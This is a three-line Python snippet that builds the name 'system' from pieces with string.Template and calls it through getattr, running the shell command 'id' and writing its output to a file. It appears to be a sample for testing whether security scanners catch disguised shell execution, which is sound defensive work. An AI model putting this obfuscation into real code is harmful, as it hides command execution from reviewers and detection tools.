import os
from string import Template
getattr(os, Template("${a}tem").substitute(a="sys"))("id>pf")
